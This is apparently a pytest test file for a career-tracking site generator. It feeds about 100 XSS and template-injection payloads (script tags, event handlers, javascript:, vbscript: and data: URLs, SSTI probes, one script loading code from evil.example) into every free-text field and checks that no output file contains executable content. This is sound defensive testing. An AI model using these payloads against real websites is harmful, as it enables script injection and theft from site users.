"""Trust campaign, part 3 (issue 10): the XSS matrix.

About 100 payloads — script tags, event-handler attributes, javascript:,
vbscript: and data: URLs (entity-encoded, mixed case, with control
characters), SVG payloads, template syntax, Markdown link and image tricks —
go into every free-text field and note.  Every output file is parsed (HTML
with html5lib, SVG with xml.etree, report.md rendered by cmark-gfm with raw
HTML *allowed*, so any HTML the Markdown carries counts, ICS with icalendar)
and must hold no executable content: no script/iframe/object/embed/
foreignObject/base elements, no on* attributes, no javascript:/vbscript:/
data: URL in href, src, xlink:href, action or formaction, no meta refresh,
and template syntax is never evaluated.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import html5lib
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent / "trust"))
from conftest import make_repo
from trustlib import count

BASES = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext></p><script>alert(1)</script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "[a](https://ok.example \"title\" onclick=alert(1))",
    "**<script>alert(1)</script>**",
    "`<script>` and <script>alert(1)</script>",
    "<http://x.example/\"onmouseover=\"alert(1)>",
    "{{ 7*7 }}",
    "{{ 7*7777 }}",
    "{{ 1234*5678 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(3) %}LOOP{% endfor %}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{# comment #}",
    "${7*7777}",
    "#{7*7777}",
    "<%= 7*7777 %>",
    "{{ self.__init__.__globals__ }}",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "# heading <img src=x onerror=alert(1)>",
    "> quote <svg onload=alert(1)>",
    "line\n\n<script>alert(1)</script>\n",
    "    <script>indented</script>",
    "```html\n<script>alert(1)</script>\n```",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<x onclick=alert(1)>x</x>",
    "<a onmouseover=alert(1)>hover</a>",
    "\"onmouseover=\"alert(1)",
    "'onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<table background=\"javascript:alert(1)\">",
    "\u202e<script>alert(1)</script>",
    "<scri\u0000pt>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
]
PAYLOADS = list(dict.fromkeys(BASES))
EVALUATED = ["54439", "7006652", "LOOPLOOP"]  # what {{ 7*7777 }}, {{ 1234*5678 }}, the loop would give

# every free-text field and note: (kind, field); config fields separately
FIELDS = [
    ("contacts", "name"), ("contacts", "company"), ("contacts", "title"), ("contacts", "tags"),
    ("contacts", "notes"), ("contacts", "interactions.note"),
    ("opportunities", "company"), ("opportunities", "role"), ("opportunities", "location"),
    ("opportunities", "url"), ("opportunities", "notes"), ("opportunities", "stages.note"),
    ("compensation", "employer"), ("compensation", "title"), ("compensation", "note"),
    ("benchmarks", "source"), ("benchmarks", "role"), ("benchmarks", "location"),
    ("config", "title"), ("config", "owner.name"), ("config", "owner.role"), ("config", "owner.location"),
]
PER_BUILD = 5  # records of each kind per build; payload (build*5 + record + field) covers every pair
BUILDS = -(-len(PAYLOADS) // PER_BUILD)


def q(text: str) -> str:
    return json.dumps(text)  # a JSON string is a YAML 1.2 double-quoted scalar


def repository(build: int) -> dict[str, str]:
    pick = {}  # (kind, field, record) -> payload

    def p(kind, field, record=0):
        index = (build * PER_BUILD + record + FIELDS.index((kind, field))) % len(PAYLOADS)
        pick[(kind, field, record)] = PAYLOADS[index]
        return q(PAYLOADS[index])

    def c(field):  # one config value per build: its 5 payloads side by side
        # (newlines flattened here; a multi-line title is tested below)
        return q(" ".join(json.loads(p("config", field, r)) for r in range(PER_BUILD)).replace("\n", " "))

    files = {
        "careerkit.yaml": f"as_of: 2026-11-01\ntitle: {c('title')}\nowner:\n  name: {c('owner.name')}\n"
        f"  role: {c('owner.role')}\n  location: {c('owner.location')}\n",
    }
    pay = []
    for r in range(PER_BUILD):
        files[f"content/contacts/c{r}.yaml"] = (
            f"id: c{r}\nname: {p('contacts', 'name', r)}\ncompany: {p('contacts', 'company', r)}\n"
            f"title: {p('contacts', 'title', r)}\ntags: [{p('contacts', 'tags', r)}]\n"
            f"roles: [recruiter]\nmet: 2025-0{r + 1}-01\n"
            f"keep_in_touch_days: 30\nnotes: {p('contacts', 'notes', r)}\n"
            f"interactions:\n  - date: 2026-0{r + 1}-15\n    kind: call\n    note: {p('contacts', 'interactions.note', r)}\n"
        )
        files[f"content/opportunities/o{r}.yaml"] = (
            f"id: o{r}\ncompany: {p('opportunities', 'company', r)}\nrole: {p('opportunities', 'role', r)}\n"
            f"location: {p('opportunities', 'location', r)}\nurl: {p('opportunities', 'url', r)}\n"
            f"source: recruiter\ncontact: c{r}\nposted_range: {{min: 100000, max: 140000}}\n"
            f"notes: {p('opportunities', 'notes', r)}\nstages:\n  - stage: applied\n    date: 2026-0{r + 1}-02\n"
            f"    note: {p('opportunities', 'stages.note', r)}\n  - stage: offer\n    date: 2026-0{r + 1}-20\n"
            f"offer: {{base: 13{r}000}}\n"
        )
        pay.append(
            f"- date: 20{20 + r}-01-01\n  employer: {p('compensation', 'employer', r)}\n"
            f"  title: {p('compensation', 'title', r)}\n"
            f"  base: 10{r}000\n  reason: merit\n  note: {p('compensation', 'note', r)}\n"
        )
        files[f"content/benchmarks/b{r}.yaml"] = (
            f"id: b{r}\ndate: 2026-0{r + 1}-10\nsource: {p('benchmarks', 'source', r)}\nrole: {p('benchmarks', 'role', r)}\n"
            f"location: {p('benchmarks', 'location', r)}\np50: 12{r}000\n"
        )
    files["content/compensation/history.yaml"] = "".join(pay)
    return files, pick


# --- what counts as executable ------------------------------------------------------

FORBIDDEN = {"script", "iframe", "object", "embed", "foreignobject", "base", "frame", "frameset", "applet", "form", "link"}
URL_ATTRS = {"href", "src", "xlink:href", "action", "formaction", "poster", "data", "background", "to", "values"}
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):")


def _scheme(value: str) -> str:
    return re.sub(r"[\x00-\x20]+", "", value).lower()


def violations_in_tree(elements, where: str) -> list[str]:
    found = []
    for el in elements:
        tag = el.tag.rsplit("}", 1)[-1].lower() if isinstance(el.tag, str) else ""
        if tag in FORBIDDEN and not (tag == "link" and el.get("href") in ("style.css", "../style.css")):
            found.append(f"{where}: <{tag}>")
        if tag == "meta" and (el.get("http-equiv") or "").lower() == "refresh":
            found.append(f"{where}: meta refresh")
        for name, value in el.attrib.items():
            local = name.rsplit("}", 1)[-1].lower()
            if local.startswith("on"):
                found.append(f"{where}: <{tag} {local}=...>")
            if (local in URL_ATTRS or name.lower().endswith("href")) and BAD_SCHEME.match(_scheme(value)):
                found.append(f"{where}: <{tag} {local}={value!r}>")
            if local == "style" and "javascript:" in _scheme(value):
                found.append(f"{where}: style with javascript:")
    return found


def html_violations(text: str, where: str) -> list[str]:
    tree = html5lib.parse(text, treebuilder="etree", namespaceHTMLElements=False)
    return violations_in_tree(tree.iter(), where)


def svg_violations(text: str, where: str) -> list[str]:
    return violations_in_tree(ET.fromstring(text).iter(), where)


def markdown_violations(text: str, where: str) -> list[str]:
    # --unsafe keeps raw HTML, so anything the Markdown carries is judged
    cmark = ["cmark-gfm", "--unsafe", "-e", "table", "-e", "autolink"]
    html = subprocess.run(cmark, input=text, capture_output=True, text=True, check=True).stdout
    found = html_violations(html, where + " (rendered)")
    for pattern in (r"<script", r"<[a-z][^>]*\son\w+\s*=", r"<iframe", r"\]\(\s*(javascript|vbscript|data):"):
        if re.search(pattern, text, re.I):
            found.append(f"{where}: raw {pattern}")
    return found


def ics_violations(data: bytes, where: str) -> list[str]:
    from icalendar import Calendar

    found = []
    for component in Calendar.from_ical(data).walk():
        for name, value in component.property_items() if hasattr(component, "property_items") else []:
            if name in ("URL", "ATTACH", "TZURL", "SOURCE") and BAD_SCHEME.match(_scheme(str(value))):
                found.append(f"{where}: {name}={value}")
    return found


def site_violations(site: Path) -> list[str]:
    found = []
    for path in sorted(site.rglob("*")):
        if not path.is_file():
            continue
        rel = path.relative_to(site).as_posix()
        data = path.read_bytes()
        text = data.decode("utf-8", "replace")
        if rel.endswith(".html"):
            found += html_violations(text, rel)
        elif rel.endswith(".svg"):
            found += svg_violations(text, rel)
        elif rel.endswith(".md"):
            found += markdown_violations(text, rel)
        elif rel.endswith(".ics"):
            found += ics_violations(data, rel)
        for value in EVALUATED:
            if value in text:
                found.append(f"{rel}: template syntax was evaluated ({value})")
    return found


@pytest.fixture(scope="module", autouse=True)
def _cmark():
    if shutil.which("cmark-gfm") is None:
        pytest.skip("cmark-gfm is not installed (make system-deps)")


def test_the_matrix_has_about_100_payloads_and_every_field():
    assert len(PAYLOADS) >= 95
    assert len(FIELDS) >= 20
    covered = {(f, (b * PER_BUILD + r + FIELDS.index(f)) % len(PAYLOADS))
               for f in FIELDS for b in range(BUILDS) for r in range(PER_BUILD)}
    assert len(covered) == len(FIELDS) * len(PAYLOADS)


def test_the_baseline_site_has_no_executable_content(tmp_path, run_cli):
    root = tmp_path / "repo"
    shutil.copytree(Path(__file__).resolve().parent.parent / "content", root / "content")
    shutil.copy(Path(__file__).resolve().parent.parent / "careerkit.yaml", root)
    assert run_cli(["build", "--root", root])[0] == 0
    assert site_violations(root / "site") == []


@pytest.mark.parametrize("build", range(BUILDS))
def test_payloads_in_every_field_never_execute(build, tmp_path, run_cli):
    files, pick = repository(build)
    public = build % 4 == 3  # every fourth build also through the public mode
    root = make_repo(tmp_path, files)
    code, out, err = run_cli(["build", "--root", root, *(["--public"] if public else [])])
    rejected = 0
    if code == 1:  # a value the schema refuses is safe too; count it and build without it
        lines = {line.split(": error:")[0] for line in out.splitlines() if ": error:" in line}
        rejected = len(lines)
        for loc in lines:
            rel, line, _ = loc.rsplit(":", 2)
            text = (root / rel).read_text().splitlines(keepends=True)
            key, _, value = text[int(line) - 1].partition(":")
            refused = '["refused value"]' if value.strip().startswith("[") else '"refused value"'  # a list stays a list
            text[int(line) - 1] = f"{key}: {refused}\n"
            (root / rel).write_text("".join(text))
        code, out, err = run_cli(["build", "--root", root, *(["--public"] if public else [])])
    assert code == 0, out + err
    found = site_violations(root / "site")
    count("xss", payloads=len(set(pick.values())), pairs=len(pick), rejected=rejected, violations=len(found))
    assert found == []
    # the payloads are shown as text, not dropped: a contact's name is on the contacts page
    if not public:
        contacts = (root / "site/contacts.html").read_text()
        tree = html5lib.parse(contacts, treebuilder="etree", namespaceHTMLElements=False)
        page_text = "".join(tree.itertext())
        names = [pick[("contacts", "name", r)] for r in range(PER_BUILD)]
        shown = [name for name in names if name.strip().split("\n")[0][:12] in page_text]
        assert shown, "no payload name appears as text on the contacts page"


def test_a_multi_line_title_builds(tmp_path, run_cli):
    root = make_repo(tmp_path, {"careerkit.yaml": 'as_of: 2026-11-01\ntitle: "first line\\nsecond line"\n',
                                "content/contacts/a.yaml": "name: A\nkeep_in_touch_days: 5\n"})
    code, out, err = run_cli(["build", "--root", root])
    assert code == 0, err
